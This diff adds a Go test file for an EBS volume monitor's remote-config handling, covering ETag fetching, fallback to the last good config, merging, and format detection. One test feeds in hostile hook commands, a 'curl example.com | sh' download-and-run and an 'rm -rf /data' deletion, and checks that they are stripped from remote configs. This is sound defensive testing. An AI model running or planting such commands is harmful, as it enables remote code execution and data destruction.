@@ -0,0 +1,257 @@
+package configutil
+
+import (
+	"ebs-monitor/aws"
+	"ebs-monitor/aws/awstest"
+	"ebs-monitor/runtime"
+	"net/http"
+	"net/http/httptest"
+	"reflect"
+	"strings"
+	"testing"
+
+	"github.com/aws/aws-sdk-go/service/ec2"
+)
+
+// remoteVolumeJSON is a remote config volume attached to the fake instance, whose partition gives its mount point
+// without probing the host.
+const remoteVolumeJSON = `{"awsVolumeID": "vol-1", "awsDeviceName": "/dev/sdf", "awsRegion": "us-east-1", "resizeThreshold": 80,
+	"incrementSizeGB": 10, "partitions": [{"partition": 1, "mountPoint": "/data", "filesystemType": "ext4"}]}`
+
+// useFakeRemoteAWS serves the EC2 calls validating a remote config from a fake with vol-1 attached to i-1.
+func useFakeRemoteAWS(t *testing.T) {
+	t.Helper()
+	aws.SetEC2Client(&awstest.FakeEC2{
+		Volumes:   []*ec2.Volume{awstest.NewFakeVolume("vol-1", "i-1", "/dev/sdf", 100)},
+		Instances: []*ec2.Instance{awstest.NewFakeInstance("i-1", map[string]string{"/dev/sdf": "vol-1"})},
+	})
+	aws.SetInstanceMetadata(awstest.FakeMetadata{ID: "i-1", RegionID: "us-east-1"})
+	t.Cleanup(func() {
+		aws.SetEC2Client(nil)
+		aws.SetInstanceMetadata(nil)
+	})
+}
+
+// TestRemoteSourceFetch : a test function for RemoteSource.Fetch covering ETag handling and last-known-good fallback.
+func TestRemoteSourceFetch(t *testing.T) {
+	useFakeRemoteAWS(t)
+	const etag = `"v1"`
+	fail := false
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if fail {
+			w.WriteHeader(http.StatusInternalServerError)
+			return
+		}
+		if r.Header.Get("If-None-Match") == etag {
+			w.WriteHeader(http.StatusNotModified)
+			return
+		}
+		w.Header().Set("ETag", etag)
+		w.Header().Set("Content-Type", "application/json")
+		w.Write([]byte(`{"checkIntervalSeconds": 45, "volumes": [` + remoteVolumeJSON + `]}`))
+	}))
+	defer server.Close()
+
+	source := NewRemoteSource(server.URL)
+
+	// First fetch returns the new config
+	cfg, changed, err := source.Fetch()
+	if err != nil || !changed || cfg == nil || cfg.CheckIntervalSeconds != 45 {
+		t.Fatalf("Fetch() = (%v, %v, %v), want config with interval 45, changed", cfg, changed, err)
+	}
+
+	// Second fetch sends the ETag and is reported unchanged
+	cfg, changed, err = source.Fetch()
+	if err != nil || changed || cfg == nil || cfg.CheckIntervalSeconds != 45 {
+		t.Errorf("Fetch() with matching ETag = (%v, %v, %v), want last-known-good, unchanged", cfg, changed, err)
+	}
+
+	// Failed fetch falls back to the last-known-good config
+	fail = true
+	cfg, changed, err = source.Fetch()
+	if err == nil || changed || cfg == nil || cfg.CheckIntervalSeconds != 45 {
+		t.Errorf("Fetch() on failure = (%v, %v, %v), want last-known-good, unchanged, error", cfg, changed, err)
+	}
+}
+
+// TestRemoteSourceFetchRejected : a test function for RemoteSource.Fetch covering responses kept out of the last-known-good config.
+func TestRemoteSourceFetchRejected(t *testing.T) {
+	useFakeRemoteAWS(t)
+	tests := []struct {
+		name string
+		body string
+	}{
+		{name: "No volumes", body: `{"checkIntervalSeconds": 30, "volumes": []}`},
+		{name: "Too large", body: `{"checkIntervalSeconds": 30, "volumes": [` + remoteVolumeJSON + `]}` + strings.Repeat(" ", maxRemoteConfigBytes)},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			body := `{"checkIntervalSeconds": 45, "volumes": [` + remoteVolumeJSON + `]}`
+			server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+				w.Header().Set("Content-Type", "application/json")
+				w.Write([]byte(body))
+			}))
+			defer server.Close()
+			source := NewRemoteSource(server.URL)
+			if _, _, err := source.Fetch(); err != nil {
+				t.Fatalf("Fetch() error = %v", err)
+			}
+
+			body = tt.body
+			cfg, changed, err := source.Fetch()
+			if err == nil || changed || cfg == nil || cfg.CheckIntervalSeconds != 45 {
+				t.Errorf("Fetch() = (%v, %v, %v), want last-known-good, unchanged, error", cfg, changed, err)
+			}
+		})
+	}
+}
+
+// TestDropLocalOnlySettings : a test function for dropLocalOnlySettings.
+func TestDropLocalOnlySettings(t *testing.T) {
+	cfg := &runtime.Config{
+		ResizeCommands:  map[string]string{"ext4": "/tmp/resize2fs"},
+		AssumeRoleARN:   "arn:aws:iam::123456789012:role/remote",
+		SlackWebhookURL: "https://hooks.example.com/remote",
+		VolumeTemplate:  runtime.EBSVolumeConfig{PreResizeCommand: "curl example.com | sh"},
+		Volumes: []runtime.EBSVolumeConfig{
+			{AWSVolumeID: "vol-1", PostResizeCommand: "rm -rf /data", AssumeRoleARN: "arn:aws:iam::123456789012:role/remote"},
+			{AWSVolumeID: "vol-2"},
+		},
+	}
+
+	dropped := dropLocalOnlySettings(cfg)
+	want := []string{"assumeRoleARN", "postResizeCommand", "preResizeCommand", "resizeCommands", "slackWebhookURL"}
+	if !reflect.DeepEqual(dropped, want) {
+		t.Errorf("dropLocalOnlySettings() = %v, want %v", dropped, want)
+	}
+	if cfg.ResizeCommands != nil || cfg.AssumeRoleARN != "" || cfg.SlackWebhookURL != "" || cfg.VolumeTemplate.PreResizeCommand != "" {
+		t.Errorf("dropLocalOnlySettings() left global settings %+v", cfg)
+	}
+	if cfg.Volumes[0].PostResizeCommand != "" || cfg.Volumes[0].AssumeRoleARN != "" {
+		t.Errorf("dropLocalOnlySettings() left volume settings %+v", cfg.Volumes[0])
+	}
+	if dropped := dropLocalOnlySettings(&runtime.Config{Volumes: []runtime.EBSVolumeConfig{{AWSVolumeID: "vol-1"}}}); len(dropped) != 0 {
+		t.Errorf("dropLocalOnlySettings() = %v for a config without local-only settings, want none", dropped)
+	}
+}
+
+// TestKeepLocalOnlySettings : a test function for keepLocalOnlySettings.
+func TestKeepLocalOnlySettings(t *testing.T) {
+	local := runtime.Config{
+		ResizeCommands:  map[string]string{"ext4": "/sbin/resize2fs"},
+		AssumeRoleARN:   "arn:aws:iam::123456789012:role/local",
+		SlackWebhookURL: "https://hooks.example.com/local",
+		Volumes: []runtime.EBSVolumeConfig{
+			{AWSVolumeID: "vol-1", PreResizeCommand: "quiesce", PostResizeCommand: "resume", AssumeRoleARN: "arn:aws:iam::123456789012:role/vol-1"},
+		},
+	}
+	remote := &runtime.Config{Volumes: []runtime.EBSVolumeConfig{{AWSVolumeID: "vol-1"}, {AWSVolumeID: "vol-2"}}}
+
+	keepLocalOnlySettings(remote, local)
+	if !reflect.DeepEqual(remote.ResizeCommands, local.ResizeCommands) || remote.AssumeRoleARN != local.AssumeRoleARN || remote.SlackWebhookURL != local.SlackWebhookURL {
+		t.Errorf("keepLocalOnlySettings() global settings = %+v, want the local settings", remote)
+	}
+	if got := remote.Volumes[0]; !reflect.DeepEqual(got, local.Volumes[0]) {
+		t.Errorf("keepLocalOnlySettings() vol-1 = %+v, want the local hooks and role", got)
+	}
+	if got := remote.Volumes[1]; got.PreResizeCommand != "" || got.AssumeRoleARN != local.AssumeRoleARN {
+		t.Errorf("keepLocalOnlySettings() vol-2 = %+v, want no hooks and the local top-level role", got)
+	}
+}
+
+// TestMergeRemoteConfig : a test function for MergeRemoteConfig.
+func TestMergeRemoteConfig(t *testing.T) {
+	// Volumes loaded from the file take the top-level role, as ValidateConfig gives it to them
+	const role = "arn:aws:iam::123456789012:role/local"
+	local := &runtime.Config{
+		CheckIntervalSeconds: 60,
+		ErrorThreshold:       5,
+		EnableSNS:            true,
+		SNSTopicARN:          "arn:aws:sns:us-east-1:123456789012:local",
+		AssumeRoleARN:        role,
+		RemoteConfig:         runtime.RemoteConfigSource{URL: "https://config.example.com/config.yaml"},
+		Volumes: []runtime.EBSVolumeConfig{
+			{AWSVolumeID: "vol-1", ResizeThreshold: 80, PreResizeCommand: "quiesce", AssumeRoleARN: role},
+			{AWSVolumeID: "vol-2", ResizeThreshold: 80, AssumeRoleARN: role},
+		},
+	}
+	remote := &runtime.Config{
+		CheckIntervalSeconds: 30,
+		SNSTopicARN:          "arn:aws:sns:us-east-1:123456789012:remote",
+		RemoteConfig:         runtime.RemoteConfigSource{URL: "https://other.example.com/config.yaml"},
+		Volumes: []runtime.EBSVolumeConfig{
+			{AWSVolumeID: "vol-2", ResizeThreshold: 90},
+			{AWSVolumeID: "vol-3", ResizeThreshold: 70},
+		},
+	}
+
+	merged := MergeRemoteConfig(local, remote)
+	if merged.CheckIntervalSeconds != 30 || merged.SNSTopicARN != remote.SNSTopicARN {
+		t.Errorf("MergeRemoteConfig() interval %d and topic %s, want the remote settings", merged.CheckIntervalSeconds, merged.SNSTopicARN)
+	}
+	if merged.ErrorThreshold != 5 || !merged.EnableSNS {
+		t.Errorf("MergeRemoteConfig() errorThreshold %d and enableSNS %v, want the file's settings the remote config doesn't set", merged.ErrorThreshold, merged.EnableSNS)
+	}
+	if merged.RemoteConfig != local.RemoteConfig || merged.AssumeRoleARN != local.AssumeRoleARN {
+		t.Errorf("MergeRemoteConfig() remoteConfig %v and role %s, want the file's", merged.RemoteConfig, merged.AssumeRoleARN)
+	}
+
+	wantThresholds := map[string]int{"vol-1": 80, "vol-2": 90, "vol-3": 70}
+	if len(merged.Volumes) != len(wantThresholds) {
+		t.Fatalf("MergeRemoteConfig() volumes = %+v, want vol-1, vol-2 and vol-3", merged.Volumes)
+	}
+	for _, volume := range merged.Volumes {
+		if want := wantThresholds[volume.AWSVolumeID]; volume.ResizeThreshold != want {
+			t.Errorf("MergeRemoteConfig() %s threshold = %d, want %d", volume.AWSVolumeID, volume.ResizeThreshold, want)
+		}
+		if volume.AssumeRoleARN != role {
+			t.Errorf("MergeRemoteConfig() %s role = %s, want the file's", volume.AWSVolumeID, volume.AssumeRoleARN)
+		}
+	}
+	if merged.Volumes[0].PreResizeCommand != "quiesce" {
+		t.Errorf("MergeRemoteConfig() vol-1 preResizeCommand = %q, want the file's", merged.Volumes[0].PreResizeCommand)
+	}
+
+	// The merge leaves both sources as they were
+	if local.CheckIntervalSeconds != 60 || len(local.Volumes) != 2 || local.Volumes[1].ResizeThreshold != 80 || len(remote.Volumes) != 2 {
+		t.Errorf("MergeRemoteConfig() changed its inputs: local %+v, remote %+v", local, remote)
+	}
+}
+
+// TestContentFormat : a test function for contentFormat.
+func TestContentFormat(t *testing.T) {
+	tests := []struct {
+		name        string
+		contentType string
+		url         string
+		want        string
+	}{
+		{
+			name:        "JSON content type",
+			contentType: "application/json; charset=utf-8",
+			url:         "https://config.example.com/ebs",
+			want:        "json",
+		},
+		{
+			name:        "JSON file extension",
+			contentType: "text/plain",
+			url:         "https://config.example.com/ebs.json",
+			want:        "json",
+		},
+		{
+			name:        "YAML by default",
+			contentType: "",
+			url:         "https://config.example.com/ebs.yaml",
+			want:        "yaml",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := contentFormat(tt.contentType, tt.url); got != tt.want {
+				t.Errorf("contentFormat() = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}